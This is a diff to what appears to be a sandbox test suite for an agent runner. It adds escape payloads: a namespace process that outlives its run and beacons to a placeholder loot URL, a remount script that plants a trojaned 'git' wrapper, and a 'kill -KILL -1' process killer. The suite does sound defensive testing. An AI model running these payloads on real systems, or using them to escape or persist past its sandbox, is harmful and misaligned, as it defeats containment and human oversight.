@@ -52,8 +52,8 @@ HEADLESS = Weakness(
 )
 KILLER = Weakness(
     "bot/agent/killing.py",
-    "os.kill(-1, 9)",
-    "os.execv('/bin/sh', ('sh', '-c', 'sleep 0.2; kill -KILL -1'))",
+    "    os.kill(-1, 9)\n",
+    "    os.execv('/bin/sh', ('sh', '-c', 'sleep 0.2; kill -KILL -1'))\n",
 )
 """The shell that used to do it, on a machine with much to do."""
 
@@ -243,6 +243,19 @@ if os.fork() == 0:
 """,
     ),
     Attack(
+        "R30 namespaces",
+        "leaves a process behind in namespaces of its own, where it is root and number one",
+        _outlives_its_run,
+        (ALIVE,),
+        """
+goes_on = f"import time, urllib.request as u\\nwhile u.urlopen('{LOOT}/alive', b'1'): time.sleep(0.1)"
+words = ["unshare", "-Urpmf", "--mount-proc", sys.executable, "-c", goes_on]
+nothing = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
+subprocess.Popen(words, start_new_session=True, **nothing)
+time.sleep(0.5)
+""",
+    ),
+    Attack(
         "R66 leftovers",
         "leaves a file in /tmp for the next run",
         _two_runs,
@@ -330,6 +343,24 @@ if os.fork() == 0:
 program = pathlib.Path(ROOT, "opt", "git")
 program.write_text(f'#!/bin/sh\nid -u >> {PWNED}/git\nexec /usr/bin/git "$@"\n')
 program.chmod(0o755)
+""",
+    ),
+    Attack(
+        "S02 remounting",
+        "makes itself root in a namespace of its own, and opens the disk again to put a git of its own there",
+        mark_left("git"),
+        (OPEN_DISK,),
+        r"""
+opened = pathlib.Path("open.sh")
+opened.write_text(f'''
+mount -o remount,bind,rw /; mount -o remount,rw /; umount -l {ROOT}; umount -l /srv
+mount --bind / /tmp; mount -o remount,bind,rw /tmp
+for where in {ROOT} /tmp{ROOT} /proc/1/root{ROOT}; do
+  printf '#!/bin/sh\nid -u >> {PWNED}/git\nexec /usr/bin/git "$@"\n' > $where/opt/git && chmod 755 $where/opt/git
+done
+''')
+subprocess.run(["unshare", "-Urm", "--propagation", "private", "sh", "open.sh"], capture_output=True)
+opened.unlink()
 """,
     ),
     Attack(
